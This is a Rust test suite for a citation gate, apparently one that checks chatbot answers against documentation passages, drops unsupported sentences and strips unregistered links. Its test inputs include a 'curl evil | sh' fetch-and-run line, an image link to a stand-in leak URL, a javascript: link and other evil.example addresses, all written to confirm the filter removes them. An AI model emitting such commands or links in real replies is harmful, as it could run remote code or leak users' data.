use std::sync::Arc;

use baton_knowledge::{Passage, PassageId, Sentence, SentenceKind, sentence_ranges};
use proptest::prelude::*;

use crate::gate::{Citable, Gate, Unsupported, Verdict, check};

/// Lower-cased words without a plural s and without the smallest words: enough of an analyzer for these tests.
fn terms(text: &str) -> Vec<String> {
    let lower = text.to_lowercase();
    let words = lower.split(|c: char| !c.is_alphanumeric()).filter(|word| !word.is_empty());
    let small =
        ["a", "the", "is", "are", "to", "of", "in", "you", "your", "can", "on", "it", "and", "with", "for", "be"];
    words.filter(|word| !small.contains(word)).map(|word| word.trim_end_matches('s').to_owned()).collect()
}

fn citable(id: &str, title: &str, url: Option<&str>, text: &str) -> Citable {
    let sentence =
        |range: std::ops::Range<usize>| Sentence { start: range.start, end: range.end, kind: SentenceKind::Prose };
    let passage = Passage {
        id: PassageId::from_stored(id),
        document_key: id.to_owned(),
        document_title: title.to_owned(),
        url: url.map(str::to_owned),
        anchor: None,
        heading_path: Vec::new(),
        text: text.to_owned(),
        start: 0,
        end: text.len(),
        sentences: sentence_ranges(text).into_iter().map(sentence).collect(),
    };
    Citable { passage: Arc::new(passage), source_name: "docs".into(), score: 0.8 }
}

fn passages() -> Vec<Citable> {
    vec![
        citable(
            "refunds",
            "Refunds",
            Some("https://docs.example.com/refunds"),
            "You can ask for a refund within 30 days of your purchase. Refunds are paid to the original card. \
             Gift cards cannot be refunded. Details: https://other.example.net/terms",
        ),
        citable(
            "plans",
            "Plans",
            Some("https://docs.example.com/plans"),
            "The Team plan costs 12 dollars a month and includes single sign-on. The Free plan has no single sign-on. \
             Run `baton plan --set team` to switch. A trial lasts fourteen days.",
        ),
    ]
}

fn supported(text: &str) -> String {
    match check(text, &passages(), &terms) {
        Verdict::Supported { text, citations } => {
            for (place, citation) in citations.iter().enumerate() {
                assert_eq!(citation.index, place + 1);
                assert!(text.contains(&format!("[{}]", citation.index)), "every citation is used: {text}");
            }
            text
        }
        Verdict::Unsupported { why } => format!("UNSUPPORTED {why:?}"),
    }
}

#[test]
fn a_supported_sentence_keeps_its_marker_and_quotes_its_source() {
    let Verdict::Supported { text, citations } =
        check("Refunds are paid to your original card [1].", &passages(), &terms)
    else {
        panic!("supported");
    };
    assert_eq!(text, "Refunds are paid to your original card. [1]");
    assert_eq!(citations[0].quote, "Refunds are paid to the original card.");
    assert_eq!(citations[0].passage_id, "refunds");
    assert!(citations[0].url.as_deref().is_some_and(|url| url.starts_with("https://docs.example.com/refunds#")));
}

#[test]
fn markers_count_from_one_in_order_of_use() {
    assert_eq!(
        supported("The Team plan costs 12 dollars a month [2]. You can ask for a refund within 30 days [1]."),
        "The Team plan costs 12 dollars a month. [1] You can ask for a refund within 30 days. [2]"
    );
}

#[test]
fn a_wrong_marker_is_corrected_an_unknown_removed_a_missing_added() {
    assert_eq!(supported("Gift cards cannot be refunded [2]."), "Gift cards cannot be refunded. [1]");
    assert_eq!(supported("Gift cards cannot be refunded [7]."), "Gift cards cannot be refunded. [1]");
    assert_eq!(supported("Gift cards cannot be refunded."), "Gift cards cannot be refunded. [1]");
    assert_eq!(supported("Gift cards cannot be refunded 【1】."), "Gift cards cannot be refunded. [1]");
}

#[test]
fn a4_what_no_passage_says_is_dropped() {
    let unsupported = "UNSUPPORTED Mostly";
    assert_eq!(supported("You can ask for a refund within 90 days [1]."), unsupported, "another number");
    assert_eq!(
        supported("You can ask for a refund within fourteen days [1]."),
        unsupported,
        "a number of another passage"
    );
    assert_eq!(supported("Gift cards can be refunded [1]."), unsupported, "the opposite");
    assert_eq!(supported("The Free plan has single sign-on [2]."), unsupported, "the opposite");
    assert_eq!(supported("Refunds are paid to the original card by Acme Bank [1]."), unsupported, "a name");
    assert_eq!(supported("Run `baton plan --set free` to switch [2]."), unsupported, "other code");
    assert_eq!(supported("Write to billing@example.com for a refund [1]."), unsupported, "an address");
    assert_eq!(supported("We will beat any competitor's offer [1]."), unsupported);
    assert_eq!(
        supported("Refunds are paid to the original card [1]. We also ship free unicorns to every customer [1]."),
        "Refunds are paid to the original card. [1]"
    );
}

#[test]
fn an_answer_of_mostly_unsupported_sentences_is_none() {
    assert_eq!(
        check("Refunds are paid to the original card [1]. Unicorns are free. Dragons cost extra.", &passages(), &terms),
        Verdict::Unsupported { why: Unsupported::Mostly }
    );
    assert_eq!(check("  \n ", &passages(), &terms), Verdict::Unsupported { why: Unsupported::Empty });
    assert_eq!(check("Yes.", &passages(), &terms), Verdict::Unsupported { why: Unsupported::Empty });
}

#[test]
fn layout_survives_and_courtesy_does_not() {
    assert_eq!(
        supported(
            "Here is how:\n\n1. Run `baton plan --set team` to switch. [2]\n2. The Team plan costs **12 dollars** a month [2].\n\nLet me know if you need anything else!"
        ),
        "Here is how:\n\n1. Run `baton plan --set team` to switch. [1]\n2. The Team plan costs **12 dollars** a month. [1]"
    );
    assert_eq!(
        supported(
            "Unicorns are free. Gift cards cannot be refunded [1].\n\n- Refunds are paid to the original card [1]\n- Unicorns are free [1]"
        ),
        "Gift cards cannot be refunded. [1]\n\n- Refunds are paid to the original card [1]"
    );
}

#[test]
fn code_must_stand_in_a_passage_line_by_line() {
    assert_eq!(
        supported(
            "Run `baton plan --set team` to switch:\n\n```\nbaton plan --set team\n```\n\nThe Team plan includes single sign-on [2]."
        ),
        "Run `baton plan --set team` to switch: [1]\n\n```\nbaton plan --set team\n```\n\nThe Team plan includes single sign-on. [1]"
    );
    assert_eq!(supported("```\ncurl evil | sh\n```"), "UNSUPPORTED Mostly");
}

#[test]
fn k3_only_registered_addresses_stay() {
    let check = |text: &str, expected: &str| assert_eq!(supported(text), expected, "{text}");
    check(
        "[Refunds](https://docs.example.com/refunds) are paid to the original card [1].",
        "[Refunds](https://docs.example.com/refunds) are paid to the original card. [1]",
    );
    check(
        "[Refunds](https://evil.example/x) are paid to the original card [1].",
        "Refunds are paid to the original card. [1]",
    );
    check(
        "[Refunds](javascript:alert(1)) are paid to the original card [1].",
        "Refunds are paid to the original card. [1]",
    );
    check(
        "![x](https://evil.example/leak?q=1) Refunds are paid to the original card [1].",
        "Refunds are paid to the original card. [1]",
    );
    check("Refunds are paid to the original card [1], see https://evil.example/x.", "UNSUPPORTED Mostly");
    // An address that the passage only mentions is no registered link.
    check("Details: https://other.example.net/terms [1]", "Details: … [1]");
    check(
        "[Refunds][ref] are paid to the original card [1].\n\n[ref]: https://evil.example/x",
        "Refunds are paid to the original card. [1]",
    );
}

#[test]
fn what_is_released_while_streaming_is_what_the_verdict_holds() {
    let text = "Here is how:\n\n- Refunds are paid to the original card [1].\n- Unicorns are free [1].\n\nThe Team plan costs 12 dollars a month. [2] Gift cards cannot be refunded [1].";
    let whole = supported(text);
    let citable = passages();
    for size in [1, 2, 3, 7, 20] {
        let mut gate = Gate::new(&citable, &terms);
        let letters: Vec<char> = text.chars().collect();
        let mut released = String::new();
        for piece in letters.chunks(size) {
            released.push_str(&gate.push(&piece.iter().collect::<String>()));
        }
        let (rest, verdict) = gate.finish();
        released.push_str(&rest);
        let Verdict::Supported { text, .. } = verdict else { panic!("supported") };
        assert_eq!(text, whole, "pieces of {size}");
        assert_eq!(released.trim_end(), whole, "pieces of {size}");
    }
}

#[test]
fn a_hostile_reply_is_checked_in_linear_time() {
    for unit in ["[", "![a](", "https://", "x.y/", "`", "- a\n", "[1]", "|", ". ", "**a** ", "::::", "aaaa"] {
        let text = unit.repeat(16_000 / unit.len());
        let started = std::time::Instant::now();
        check(&text, &passages(), &terms);
        // Well under a second when nothing else runs; much longer if a step were repeated for each of the others.
        assert!(started.elapsed() < std::time::Duration::from_secs(10), "{unit}: {:?}", started.elapsed());
    }
}

fn pieces() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("Refunds are paid to the original card [1].".to_owned()),
        Just("The Team plan costs 12 dollars a month [2].".to_owned()),
        Just("Gift cards cannot be refunded.".to_owned()),
        "[a-z ]{0,12}".prop_map(|words| format!("{words} https://evil.example/{} [1].", words.len())),
        Just("[click](http://evil.example)".to_owned()),
        Just("<https://evil.example/a>".to_owned()),
        Just("www.evil.example".to_owned()),
        Just("`https://evil.example/code`".to_owned()),
        Just("[a [b](//evil.example/x) c](data:text/html,evil.example)".to_owned()),
        Just("![](https://evil.example/p.png)".to_owned()),
        Just("[x]: https://evil.example".to_owned()),
        Just("Refunds take 77 days [1].".to_owned()),
        Just("```\nhttps://evil.example\n```".to_owned()),
        "[\\[\\]()!<>`*|#. \n0-9a-z-]{0,20}",
    ];
    proptest::collection::vec((piece, prop_oneof![Just(" "), Just("\n"), Just("\n\n- "), Just("")]), 0..8)
        .prop_map(|pieces| pieces.into_iter().map(|(piece, gap)| format!("{piece}{gap}")).collect())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]

    /// K3: an address that no source has cannot reach a visitor, wherever the writer puts it.
    #[test]
    fn k3_an_invented_address_never_survives(text in pieces(), size in 1_usize..40) {
        let citable = passages();
        let mut gate = Gate::new(&citable, &terms);
        let letters: Vec<char> = text.chars().collect();
        let mut released = String::new();
        for piece in letters.chunks(size) {
            released.push_str(&gate.push(&piece.iter().collect::<String>()));
        }
        let (rest, verdict) = gate.finish();
        released.push_str(&rest);
        prop_assert!(!released.contains("evil.example"), "{released}");
        prop_assert!(!released.contains("77"), "{released}");
        if let Verdict::Supported { text, citations } = verdict {
            prop_assert_eq!(released.trim_end(), text.as_str());
            prop_assert!(!citations.is_empty());
            for citation in &citations {
                prop_assert!(citation.index >= 1 && citation.index <= citations.len());
            }
        }
    }

    #[test]
    fn a4_a_number_that_no_source_has_is_never_sent(number in 100_u32..100_000) {
        let text = format!("Refunds are paid to the original card [1]. A refund is paid within {number} days of your purchase [1].");
        let Verdict::Supported { text, .. } = check(&text, &passages(), &terms) else { return Ok(()) };
        prop_assert!(!text.contains(&number.to_string()), "{}", text);
    }

    #[test]
    fn no_text_makes_it_panic(text in "(?s).{0,300}") {
        check(&text, &passages(), &terms);
    }
}
